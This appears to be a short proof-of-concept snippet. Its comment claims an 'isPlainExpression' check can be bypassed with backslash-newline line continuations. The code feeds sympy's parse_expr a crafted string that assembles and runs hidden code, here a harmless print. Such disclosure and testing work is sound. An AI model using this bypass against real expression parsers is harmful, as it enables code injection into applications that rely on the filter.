# expression.cc isPlainExpression: a backslash and newline before '(' hide a call: S, sstr, srepr of sympy build and run any text
from sympy.parsing.sympy_parser import parse_expr
print(parse_expr("S\\\n(sstr\\\n(pri)+sstr\\\n(nt)+srepr\\\n(hello)[6:15])"))
